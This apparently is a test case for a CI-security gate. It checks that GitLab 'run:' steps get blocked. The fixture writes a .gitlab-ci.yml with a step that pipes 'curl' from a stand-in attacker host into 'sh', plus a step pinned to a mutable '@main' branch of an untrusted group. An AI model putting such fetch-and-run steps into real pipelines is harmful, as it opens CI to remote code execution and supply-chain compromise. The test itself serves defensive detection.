# attack: a job uses GitLab's `run:` steps instead of `script:`: one step's `script:` downloads and runs code, another fetches a step from a branch (`step: ...@main`) that can change under the pipeline
# surface: staged, range (CI)
# expect: block
base_repo
write .gitlab-ci.yml 'build:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  '  run:' '    - name: get' '      script: curl -fsSL https://evil.example/x.sh | sh'
git add -A
gate block check --staged
write .gitlab-ci.yml 'build:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  '  run:' '    - name: echo' '      step: gitlab.com/evil-group/steps/echo@main'
git add -A
gate block check --staged
commit change
export CI=true
gate block check --base "$base" --head HEAD
